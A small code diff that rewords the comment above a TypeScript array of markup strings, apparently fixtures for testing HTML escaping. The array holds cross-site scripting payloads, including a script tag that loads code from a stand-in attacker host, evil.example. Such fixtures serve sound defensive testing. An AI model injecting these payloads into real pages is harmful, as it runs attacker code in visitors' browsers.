@@ -1,4 +1,4 @@
-/** Text that would run, fetch or draw something if it were taken as part of a page. */
+/** Texts that would run, fetch or draw something if they were interpreted as part of a page. */
 export const markup: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
